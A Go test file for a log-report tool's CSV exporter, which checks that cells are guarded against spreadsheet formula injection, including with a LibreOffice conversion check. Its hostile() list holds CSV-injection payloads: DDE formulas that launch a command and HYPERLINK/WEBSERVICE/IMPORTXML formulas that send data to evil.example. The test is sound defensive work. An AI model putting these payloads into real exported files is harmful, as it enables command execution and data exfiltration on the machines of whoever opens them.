package csv_test

import (
	"archive/zip"
	"bytes"
	stdcsv "encoding/csv"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"logreeve/connectors"
	"logreeve/reports"
	"logreeve/reports/csv"
	"logreeve/reports/dossier/dossiertest"
)

// hostile cells: formulas in all the ways that spreadsheets take them, and what
// breaks readers.
func hostile() []string {
	values := []string{
		`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"x")`, `=WEBSERVICE("http://evil.example")`, `=DDE("cmd";"/C calc";"x")`, `=IMPORTXML("http://evil.example","//a")`,
		`+1+1`, `+cmd|' /C calc'!A0`, `-1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, `@A1`, "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", `"=1+1"`, `'=1+1`, `''`, `'`, "＝1+1", "＋1", "－1", "＠SUM(1)",
		"a,b", `a"b`, "a\nb", "a\r\nb", "a;=1+1", "a\t=1+1", "{=1+1}", "\ufeff=1+1", "\u200b=1+1", "\xff=1+1", "\xff", "\U0001F600", "‮cod", strings.Repeat("=", 40000), strings.Repeat("x", 40000), "", "TRUE", "1E5", "007", "2026-11-03", "|calc", "%0A=1+1", "\v=1+1", "\f=1+1", "\u00a0=1+1", "\u2028=1+1",
	}
	return values
}

func results(values []string) []reports.Result {
	r := reports.Result{Check: "IDN-01"}
	for i, v := range values {
		it := reports.Item{Key: "key", Title: v, Subject: v, Summary: v, Actors: []string{v}, Count: int64(i), Severity: reports.High}
		it.Evidence = []reports.EvidenceEvent{{Record: connectors.Record{Source: v, Cluster: v, Host: v, Actor: v, Effective: v, Verb: v, ClientIP: v, UserAgent: v, Command: v, Message: v, Ticket: v, NativeID: v, Code: v, Key: "k",
			Object: &connectors.RecordObject{Resource: v, Subresource: v, Namespace: v, Name: v}}}}
		r.Items = append(r.Items, it)
	}
	return []reports.Result{r}
}

func decided(v string) func(string) (string, string, string, string) {
	return func(string) (string, string, string, string) { return "explained", v, v, "2026-11-03T00:00:00Z" }
}

// visible is what a value must come back as: invalid bytes and control
// characters are shown.
func visible(s string) string {
	if !utf8.ValidString(s) {
		s = strings.ToValidUTF8(s, "�")
	}
	return strings.NewReplacer("\x00", "␀", "\r", "␍", "\v", "␋", "\f", "␌").Replace(s)
}

func read(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := stdcsv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// lineEnds is what every reader of RFC 4180 makes of line ends in a cell.
func lineEnds(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }

func TestRoundTrip(t *testing.T) {
	values := hostile()
	b, err := csv.Items(results(values), decided("=1+1"))
	if err != nil {
		t.Fatal(err)
	}
	rows := read(t, b)
	if len(rows) != len(values)+1 {
		t.Fatalf("%d rows of %d", len(rows), len(values)+1)
	}
	for i, v := range values {
		for column, name := range map[int]string{3: "title", 4: "subject", 5: "summary"} {
			cell := rows[i+1][column]
			if got := csv.Unguard(cell); lineEnds(got) != lineEnds(visible(v)) {
				t.Errorf("%s %.30q came back as %.30q", name, v, got)
			}
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n\v\f") {
				t.Errorf("the cell %.30q begins as a formula may", cell)
			}
		}
		if rows[i+1][11] != "'=1+1" {
			t.Errorf("a reason is not guarded: %q", rows[i+1][11])
		}
	}
	for i := range results(values)[0].Items {
		b, err := csv.Events(&results(values)[0].Items[i])
		if err != nil {
			t.Fatal(err)
		}
		if rows := read(t, b); len(rows) != 2 || len(rows[0]) != len(rows[1]) || lineEnds(csv.Unguard(rows[1][16])) != lineEnds(visible(values[i])) {
			t.Errorf("the event of %.30q did not come back", values[i])
		}
	}
}

func TestGuardIsExact(t *testing.T) {
	for _, v := range append(hostile(), "''=1", "'a") {
		if got := csv.Unguard(csv.Guard(v)); got != visible(v) {
			t.Errorf("%.30q came back as %.30q", v, got)
		}
	}
	if csv.Guard("harmless") != "harmless" {
		t.Error("a harmless cell was altered")
	}
}

func TestLineEndsAndHeader(t *testing.T) {
	b, err := csv.Coverage(dossiertest.Rich().Sources)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b, []byte("source,hour,events\r\n")) || bytes.Count(b, []byte("\r\n")) != 1+4*168 {
		t.Errorf("not as RFC 4180 wants: %.60q, %d lines", b, bytes.Count(b, []byte("\r\n")))
	}
}

// TestSpreadsheet has LibreOffice read the hostile cells and looks whether any
// became a formula. The control, written without the guard, must.
func TestSpreadsheet(t *testing.T) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("soffice is needed for this test: install libreoffice-calc")
	}
	values := results(hostile())
	items, err := csv.Items(values, decided("=1+1"))
	if err != nil {
		t.Fatal(err)
	}
	var events bytes.Buffer
	for i := range values[0].Items {
		b, err := csv.Events(&values[0].Items[i])
		if err != nil {
			t.Fatal(err)
		}
		if i > 0 {
			b = b[bytes.IndexByte(b, '\n')+1:]
		}
		events.Write(b)
	}
	dir := t.TempDir()
	for name, b := range map[string][]byte{"items.csv": items, "events.csv": events.Bytes(), "control.csv": []byte("a,b\r\n=1+1,@SUM(1)\r\n")} {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	c := exec.Command(office, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--convert-to", "xlsx", "--outdir", dir,
		filepath.Join(dir, "items.csv"), filepath.Join(dir, "events.csv"), filepath.Join(dir, "control.csv"))
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	if formulas(t, filepath.Join(dir, "control.xlsx")) == 0 {
		t.Fatal("the control has no formula: this test would not notice one")
	}
	for _, name := range []string{"items.xlsx", "events.xlsx"} {
		if n := formulas(t, filepath.Join(dir, name)); n != 0 {
			t.Errorf("%s has %d formulas", name, n)
		}
	}
}

// formulas counts formula cells and links in a workbook.
func formulas(t *testing.T, name string) int {
	t.Helper()
	z, err := zip.OpenReader(name)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	n, sheets := 0, 0
	for _, f := range z.File {
		if strings.Contains(f.Name, "externalLink") {
			n++
		}
		if !strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
			continue
		}
		sheets++
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		n += bytes.Count(b, []byte("<f>")) + bytes.Count(b, []byte("<f ")) + bytes.Count(b, []byte("<hyperlink "))
	}
	if sheets == 0 {
		t.Fatalf("%s has no sheet", name)
	}
	return n
}
